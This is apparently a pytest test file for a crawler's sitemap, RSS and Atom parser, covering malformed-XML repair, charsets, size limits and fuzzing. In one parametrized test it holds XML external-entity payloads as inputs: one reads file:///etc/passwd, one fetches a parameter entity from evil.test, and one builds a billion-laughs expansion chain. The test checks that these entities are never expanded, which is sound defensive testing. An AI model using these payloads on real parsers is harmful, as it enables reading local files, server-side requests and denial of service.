"""Sitemaps and feeds, as they are and as they should be."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import suppress

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from crawler import urls
from crawler.errors import ParseError
from crawler.model import Reason
from crawler.parse import Document, charset, kinds, sitemap, xml
from crawler.parse.reading import Reading
from crawler.runtime import xml_repair
from tests.defaults import FOLLOWED, make_job, make_scope

SITEMAP = "http://www.sitemaps.org/schemas/sitemap/0.9"


SITEMAP_URL = urls.parse("http://h/sitemap.xml")


def read(document: str | bytes, *follow: str, content_type: str = "", priority: int = 0) -> Reading:
    body = document.encode() if isinstance(document, str) else document
    asked = Document(SITEMAP_URL, body, content_type, priority=priority)
    return xml.read([body], asked, make_job(b"k", b"r", make_scope(), follow=frozenset(follow) or FOLLOWED))


def read_in_pieces(body: bytes) -> Iterator[Reading]:
    for size in (1, 7, 64):
        pieces = [body[at : at + size] for at in range(0, len(body), size)]
        yield xml.read(pieces, Document(SITEMAP_URL, b""), make_job(b"k", b"r", make_scope(), follow=FOLLOWED))


def urlset(*urls: str) -> str:
    return f"<urlset xmlns='{SITEMAP}'>{''.join(f'<url>{url}</url>' for url in urls)}</urlset>"


def rss(inside: str) -> str:
    return f"<rss version='2.0'><channel>{inside}</channel></rss>"


def atom(inside: str) -> str:
    return f"<feed xmlns='http://www.w3.org/2005/Atom'>{inside}</feed>"


@pytest.mark.parametrize(
    ("document", "hrefs"),
    [
        (urlset("<loc>http://h/1</loc><lastmod>2024</lastmod>"), ["http://h/1"]),
        (urlset("<loc>\n http://h/1\n</loc>", "<loc>http://h/2</loc>"), ["http://h/1", "http://h/2"]),
        (urlset("<loc>http://h/?a=1&amp;b=2</loc>"), ["http://h/?a=1&b=2"]),
        (urlset("<loc><![CDATA[http://h/?a&b]]></loc>"), ["http://h/?a&b"]),
        (urlset("<loc>http://h/&#x31;<!-- x -->2</loc>"), ["http://h/12"]),
        (urlset("<loc>http://h/1</loc><i:image><i:loc>http://h/i.png</i:loc></i:image>"), ["http://h/1"]),
        (urlset("<loc></loc>", "<loc/>", ""), []),
        ("<sm:urlset xmlns:sm='x'><sm:url><sm:loc>http://h/1</sm:loc></sm:url></sm:urlset>", ["http://h/1"]),
        ("<sm:urlset><sm:url><sm:loc>http://h/1</sm:loc></sm:url></sm:urlset>", ["http://h/1"]),
        ("<urlset><loc>http://h/1</loc></urlset>", []),
        ("<sitemapindex><sitemap><loc>http://h/1.xml.gz</loc></sitemap></sitemapindex>", ["http://h/1.xml.gz"]),
        (rss("<link>http://h/</link><item><link>http://h/1</link></item>"), ["http://h/", "http://h/1"]),
        (rss("<atom:link rel='self' href='http://h/feed'/><image><link>http://h/i</link></image>"), []),
        ("<rdf:RDF><item><link>http://h/1</link></item></rdf:RDF>", ["http://h/1"]),
        (atom("<link href='http://h/'/><link rel='self' href='f'/><entry><link href='/1'/></entry>"),
         ["http://h/", "/1"]),
        (atom("<link rel='next' href='?2'/><entry><link rel='edit' href='e'/><link rel='alternate' href='a'/></entry>"),
         ["?2", "a"]),
    ],
)  # fmt: skip
def test_a_sitemap_or_feed_names_its_pages(document: str, hrefs: list[str]) -> None:
    assert read(document).hrefs == hrefs


@pytest.mark.parametrize(
    ("document", "hrefs"),
    [
        (rss("<item><guid>http://h/1</guid></item>"), ["http://h/1"]),
        (rss("<item><guid isPermaLink='true'>http://h/1</guid></item>"), ["http://h/1"]),
        (rss("<item><guid isPermaLink='false'>no link</guid></item>"), []),
        (rss("<item><link>http://h/1</link><guid>http://h/2</guid></item>"), ["http://h/1"]),
        (rss("<item><link/><guid>http://h/2</guid></item>"), ["http://h/2"]),
        (rss("<item><atom:link href='http://h/1'/></item><atom:link rel='next' href='?2'/>"), ["http://h/1", "?2"]),
        (rss("<item><link>1</link></item>").replace("<channel>", "<channel xml:base='http://o/a/'>"), ["http://o/a/1"]),
        (atom("<entry xml:base='b/'><link href='1'/></entry><entry><link href='2'/></entry>"), ["http://h/b/1", "2"]),
        (atom("<entry xml:base='b/'><link xml:base='c/' href='1'/></entry>"), ["http://h/b/c/1"]),
        (atom("<link rel='self' href='a'/><link rel='hub' href='b'/><link rel='next-archive' href='c'/>"), ["c"]),
        (rss("<item><enclosure url='http://h/a.mp3'/></item>"), []),
        ("\n\n \ufeff<?xml version='1.0'?><urlset><url><loc>http://h/1</loc></url></urlset>", ["http://h/1"]),
        (urlset("<loc>http://h/1</loc><xhtml:link rel='alternate' hreflang='de' href='http://h/de'/>"), ["http://h/1"]),
        ("<?xml version='1.0' encoding='nonsense'?>" + urlset("<loc>http://h/ä</loc>"), ["http://h/ä"]),
        ("<!DOCTYPE urlset SYSTEM 'http://h/urlset.dtd'>" + urlset("<loc>http://h/1</loc>"), ["http://h/1"]),
        ("<URLSET><URL><LOC>http://h/1</LOC></URL></URLSET>", ["http://h/1"]),
    ],
)
def test_feeds_and_sitemaps_are_read_as_people_write_them(document: str, hrefs: list[str]) -> None:
    assert read(document).hrefs == hrefs


def test_translations_and_enclosures_are_followed_where_the_crawl_follows_their_kind() -> None:
    translated = urlset("<loc>http://h/1</loc><xhtml:link rel='alternate' hreflang='de' href='http://h/de'/>")
    assert read(translated, "alternates").hrefs == ["http://h/1", "http://h/de"]
    feed = rss("<item><link>http://h/1</link><enclosure url='http://h/a.mp3'/></item>")
    assert read(feed, "media").hrefs == ["http://h/1", "http://h/a.mp3"]
    assert read(atom("<entry><link rel='enclosure' href='a.mp3'/></entry>"), "media").hrefs == ["a.mp3"]


def test_what_a_sitemap_says_of_an_entry_travels_with_it_in_any_order() -> None:
    reading = read(urlset(
        "<loc>a</loc><lastmod>1970-01-02</lastmod><changefreq>daily</changefreq><priority>1.0</priority>",
        "<priority>0.0</priority><lastmod>1970-01-01T00:01+00:00</lastmod><loc>b</loc>",
        "<loc>c</loc><priority>high</priority><lastmod>yesterday</lastmod>",
        "<loc>d</loc>",
    ))  # fmt: skip
    assert reading.hrefs == ["a", "b", "c", "d"]
    assert reading.priorities == [-5, 5, 0, 0]
    assert reading.modified == [86400, 60, 0, 0]


def test_indexes_within_indexes_come_to_an_end() -> None:
    index = "<sitemapindex><sitemap><loc>a</loc><lastmod>1970-01-02</lastmod></sitemap></sitemapindex>"
    priority, read_so_far = sitemap.FIRST, []
    while hrefs := read(index, priority=priority).hrefs:
        read_so_far += hrefs
        priority = read(index, priority=priority).priorities[0]
    assert len(read_so_far) == sitemap.MAX_INDEXES
    assert "was not followed" in read(index, priority=priority).note
    assert read(urlset("<loc>a</loc>"), priority=priority).hrefs == ["a"]
    assert read(index, priority=7).priorities == [sitemap.FIRST + 1]


@pytest.mark.slow
def test_a_sitemap_larger_than_its_protocol_allows_is_cut_and_that_is_said() -> None:
    entry = f"<url><loc>http://h/{'x' * 2000}</loc></url>"
    pieces = iter([b"<urlset>", *[entry.encode() * 512] * 60])
    reading = xml.read(pieces, Document(SITEMAP_URL, b""), make_job(b"k", b"r", make_scope()))
    assert 25_000 < len(reading.hrefs) < 26_500
    assert reading.note == "only the first 50 MiB were read"
    assert sum(1 for _ in pieces) > 5  # the rest was never opened


@pytest.mark.parametrize("written", [rss, atom])
def test_a_feed_has_a_title(written: Callable[[str], str]) -> None:
    item = "<item><title>One</title></item><entry><title>One</title></entry>"
    assert read(written(f"<title> The\n news </title>{item}")).title == "The news"


@pytest.mark.parametrize("charset", ["utf-8", "utf-16", "iso-8859-1", "windows-1251", "gbk", "euc-jp"])
def test_a_document_is_read_in_the_charset_it_declares(charset: str) -> None:
    text = {"windows-1251": "Привет", "gbk": "你好", "euc-jp": "こんにちは"}.get(charset, "größe")
    document = f"<?xml version='1.0' encoding='{charset}'?><feed><title>{text}</title></feed>"
    reading = read(document.encode(charset))
    names = {"utf-16": "utf-16le", "iso-8859-1": "windows-1252"}
    assert (reading.title, reading.charset) == (text, names.get(charset, charset))


def test_what_stood_before_an_error_is_kept() -> None:
    whole = "<urlset><url><loc>http://h/1</loc></url><url><loc>http://h/2</loc></url></urlset>"
    assert read(whole[:60]).hrefs == ["http://h/1"]
    assert read(whole[:60]).note.startswith("read up to an error: ")
    assert read(whole.replace("</url></urlset>", "</urlset>")).hrefs == ["http://h/1", "http://h/2"]
    assert read("<urlset><url><loc>http://h/1</loc></url><url><loc>http://h/?a&b</l").hrefs == ["http://h/1"]


@pytest.mark.parametrize("document", ["", "<urlset>", "<urlset></rss>", "words"])
def test_where_nothing_can_be_read_that_is_said(document: str) -> None:
    with pytest.raises(ParseError, match="not well-formed") as error:
        read(document)
    assert error.value.reason is Reason.PARSE


REPAIRED = {
    "a raw ampersand": (
        urlset("<loc>http://h/?a=1&b=2</loc>", "<loc>http://h/2</loc>"),
        ["http://h/?a=1&b=2", "http://h/2"],
    ),
    "an ampersand at the end": (
        urlset("<loc>http://h/?a&</loc>", "<loc>http://h/2</loc>"),
        ["http://h/?a&", "http://h/2"],
    ),
    "an entity of which HTML knows the beginning": (urlset("<loc>http://h/&notx;</loc>"), ["http://h/&notx;"]),
    "a parameter like an entity": (urlset("<loc>http://h/?a=1&copy=2&amp;c=3</loc>"), ["http://h/?a=1&copy=2&c=3"]),
    "entities of HTML": (
        urlset("<loc>http://h/caf&eacute;</loc>", "<loc>http://h/&nbsp;</loc>"),
        ["http://h/café", "http://h/"],
    ),
    "an unknown entity": (
        urlset("<loc>http://h/&nothing;</loc>", "<loc>http://h/2</loc>"),
        ["http://h/&nothing;", "http://h/2"],
    ),
    "a number of no character": (
        urlset("<loc>http://h/&#1;x</loc>", "<loc>http://h/2</loc>"),
        ["http://h/x", "http://h/2"],
    ),
    "a control character": (
        urlset("<loc>http://h/a\x0bb</loc>", "<loc>http://h/2\0</loc>"),
        ["http://h/ab", "http://h/2"],
    ),
    "a section among faults": (urlset("<loc><![CDATA[http://h/?a&amp;b&c]]></loc><d>&</d>"), ["http://h/?a&amp;b&c"]),
    "a section after a fault": (urlset("<d>&</d><loc><![CDATA[http://h/?a&amp;b&c]]></loc>"), ["http://h/?a&amp;b&c"]),
    "a fault within a section": (
        urlset("<loc><![CDATA[http://h/?a&amp;b\x0b&c<]]></loc>", "<loc>http://h/2</loc>"),
        ["http://h/?a&amp;b&c<", "http://h/2"],
    ),
    "a comment after a fault": (urlset("<d>&</d><!-- <loc>x</loc> -- > --><loc>http://h/1</loc>"), ["http://h/1"]),
    "broken nesting": (
        urlset("<a><b></a></b><loc>http://h/1</loc>", "<loc>http://h/2</loc>"),
        ["http://h/1", "http://h/2"],
    ),
    "an end that was forgotten": (
        urlset("<loc>http://h/1", "<loc>http://h/2<lastmod>2020</lastmod>"),
        ["http://h/1", "http://h/2"],
    ),
    "entries that do not end": (
        "<urlset><url><loc>http://h/1</loc><url><loc>http://h/2</loc></urlset>",
        ["http://h/1", "http://h/2"],
    ),
    "an end of nothing": (
        urlset("</x><loc>http://h/1</loc></loc></url></url>", "<loc>http://h/2</loc>"),
        ["http://h/1", "http://h/2"],
    ),
    "two documents": (urlset("<loc>http://h/1</loc>") + urlset("<loc>http://h/2</loc>"), ["http://h/1", "http://h/2"]),
    "a declaration inside": ("<urlset><?xml version='1.0'?><url><loc>http://h/1</loc></url></urlset>", ["http://h/1"]),
    "a less-than sign": (urlset("<d>1 < 2 <</d><loc>http://h/1</loc>"), ["http://h/1"]),
    "HTML that is not escaped": (
        rss("<item><d><p>x<br>y &nbsp;<img src=x></d><link>http://h/1</link></item>"),
        ["http://h/1"],
    ),
    "values without quotes": (
        atom("<entry><link rel=alternate href=/1 /></entry><entry><link href='/2?a&b'/></entry>"),
        ["/1", "/2?a&b"],
    ),
    "an attribute given twice": (atom("<entry><link href='/1' href='/x'/></entry>"), ["/1"]),
    "a quote that is not closed": (
        atom("<entry a='><link href='/1'/></entry><entry><link href='/2'/></entry>"),
        ["/1", "/2"],
    ),
    "an item of RSS": (rss("<title>A & B</title><item><link>http://h/?a&b</link></item>"), ["http://h/?a&b"]),
}  # fmt: skip


@pytest.mark.parametrize("fault", REPAIRED)
def test_a_fault_loses_no_entries_before_or_after_it(fault: str) -> None:
    document, hrefs = REPAIRED[fault]
    reading = read(document)
    assert reading.hrefs == hrefs
    assert reading.note.startswith("read on after an error: ")
    for again in read_in_pieces(document.encode()):
        assert (again.hrefs, again.title) == (hrefs, reading.title), "the cuts between pieces change nothing"


def test_a_fault_late_in_a_long_sitemap_keeps_what_every_entry_says() -> None:
    entries = [f"<loc>http://h/{n}?a&amp;b</loc><lastmod>1970-01-02</lastmod>" for n in range(5000)]
    right, faulty = read(urlset(*entries)), read(urlset(*entries, "<loc>http://h/?a&b</loc><priority>1.0</priority>"))
    assert faulty.hrefs == [*right.hrefs, "http://h/?a&b"]
    assert faulty.modified == [*right.modified, 0]
    assert faulty.priorities == [*right.priorities, -5]


LAUGHS = "<!ENTITY a 'ha'>" + "".join(f"<!ENTITY a{n} '{'&a;' * 10}'>" for n in range(10))


@pytest.mark.parametrize(
    "declarations",
    [
        "<!ENTITY a 'b'>",
        "<!ENTITY a SYSTEM 'file:///etc/passwd'>",
        "<!ENTITY % p SYSTEM 'http://evil.test/'> %p; <!ENTITY a 'x'>",
        "<!ENTITY a \"'<>]\"> <!-- ]> ' --> <!ELEMENT a (b)>",
        "<!ENTITY a '<url><loc>http://evil.test/</loc></url>'>",
        LAUGHS,
    ],
)
@pytest.mark.parametrize("content_type", ["text/xml", "application/rss+xml", "text/html", ""])
def test_entities_that_a_document_declares_are_never_expanded(declarations: str, content_type: str) -> None:
    entries = urlset("<loc>http://h/1</loc>", "<loc>http://h/&a;</loc>", "<loc>http://h/?&amp;</loc>")
    body = f"<?xml version='1.0'?><!DOCTYPE urlset [{declarations}]>{entries}".encode()
    assert kinds.kind(content_type, body) == "sitemap"
    reading = read(body)
    assert reading.hrefs == ["http://h/1", "http://h/&a;", "http://h/?&"]
    assert reading.note == "entities are declared, and were not expanded"
    assert all(again.hrefs == reading.hrefs for again in read_in_pieces(body))


def test_a_document_type_without_entities_is_no_fault() -> None:
    reading = read(f"<!DOCTYPE urlset [<!ELEMENT urlset (url*)> <!-- x --> <?y ]?>]>{urlset('<loc>http://h/1</loc>')}")
    assert (reading.hrefs, reading.note) == (["http://h/1"], "")


def test_an_entity_of_a_document_type_elsewhere_is_that_of_html() -> None:
    document = "<!DOCTYPE rss PUBLIC '-//Netscape Communications//DTD RSS 0.91//EN' 'http://h/rss-0.91.dtd'>"
    reading = read(document + rss("<item><link>http://h/caf&eacute;</link></item>"))
    assert reading.hrefs == ["http://h/café"]


@pytest.mark.parametrize("subset", ["<!ENTITY a 'b>", "<!ENTITY a \"b'>]>", "[[[", "]]", "'", "<!-- ]>"])
def test_a_broken_document_type_hides_little(subset: str) -> None:
    with suppress(ParseError):
        assert read(f"<!DOCTYPE urlset [{subset}]>{urlset('<loc>http://h/1</loc>')}").hrefs in ([], ["http://h/1"])


def test_a_sitemap_is_read_to_the_number_its_protocol_allows() -> None:
    urls = "".join(f"<url><loc>http://h/{n}</loc></url>" for n in range(sitemap.MAX_LOCATIONS + 10))
    reading = read(f"<urlset>{urls}</urlset>")
    assert len(reading.hrefs) == sitemap.MAX_LOCATIONS
    assert reading.note == "only the first 50000 entries were read"
    assert read("<urlset><url><loc>http://h/1</loc></url></urlset>").note == ""


def test_what_nests_without_end_is_left_there() -> None:
    assert read("<urlset><url><loc>x</loc></url>" + "<a>" * 1_000_000).hrefs == ["x"]
    assert read("<feed>" + "<div>" * 100 + "</div>" * 100 + "<entry><link href='x'/></entry></feed>").hrefs == ["x"]


PIECES = ["<urlset>", "<url>", "<loc>", "http://h/", "</loc>", "</url>", "<link href='x'/>", "<item>", "<channel>",
          "<title>", "</title>", "<!DOCTYPE a [", "<!ENTITY a 'b'>", "]>", "&a;", "<?xml version='1.0'?>", "<![CDATA[",
          "]]>", "\0", "<feed>",
]  # fmt: skip
DOCUMENTS = st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=30).map("".join).map(str.encode)


@given(DOCUMENTS | st.binary(max_size=100))
def test_no_bytes_do_worse_than_a_refusal(document: bytes) -> None:
    with suppress(ParseError):
        read(document)


@given(DOCUMENTS, st.integers(1, 40))
def test_the_cuts_between_pieces_change_nothing_in_any_document(body: bytes, size: int) -> None:
    pieces = [body[at : at + size] for at in range(0, len(body), size)]
    found: list[object] = []
    for given_pieces in ([body], pieces):
        try:
            reading = xml.read(given_pieces, Document(SITEMAP_URL, b""), make_job(b"k", b"r", make_scope()))
            found.append((reading.hrefs, reading.title))
        except ParseError:
            found.append(None)
    assume(charset.of_xml(body, "") == charset.of_xml(pieces[0] if pieces else b"", ""))
    assert found[0] == found[1]


def test_hints_hold_for_all_locations_of_their_entry_wherever_they_stand() -> None:
    loc, hint = b"<loc>http://h/%d</loc>", b"<lastmod>1971-01-0%d</lastmod>"
    body = b"<urlset><url>%b%b%b</url><url>%b</url></urlset>" % (loc % 1, hint % 2, loc % 2 + hint % 3, loc % 3)
    assert read(body).modified == [31536000 + 2 * 86400] * 2 + [0]


def test_a_base_that_is_long_costs_no_time_for_each_location() -> None:
    entries = b"<url><loc>x</loc></url>"
    long = b"<urlset xml:base='http://h/?" + b"b" * 3000 + b"'>" + entries + b"</urlset>"
    longer = b"<urlset xml:base='http://elsewhere/" + b"b" * 3000 + b"'>" + entries + b"</urlset>"
    assert read(long).hrefs == ["http://h/x"]
    assert read(longer).hrefs == ["x"], "a base that no link could be below counts as none"


@pytest.mark.parametrize("begin", ["<urlset a='", "<!--", "<?x "])
def test_a_tag_without_end_is_left_there(begin: str) -> None:
    found = read("<urlset><url><loc>http://h/1</loc></url>" + begin + "x" * (xml_repair.MAX_TAG + (1 << 18)))
    assert found.hrefs == ["http://h/1"]
    assert found.note == "a tag is longer than 1 MiB, so the rest was not read"


def test_text_that_is_long_is_no_tag() -> None:
    text = "x " * (1 << 20)
    document = (
        f"<rss><channel><item><d>{text}</d><e><![CDATA[{text}]]></e><link>http://h/1</link></item></channel></rss>"
    )
    assert read(document).hrefs == ["http://h/1"]


def test_a_document_that_only_declares_entities_has_no_error() -> None:
    reading = read(b"<!DOCTYPE z [<!ENTITY % p SYSTEM 'http://evil.test/'> %p;]><urlset/>")
    assert (reading.note, reading.hrefs) == ("entities are declared, and were not expanded", [])
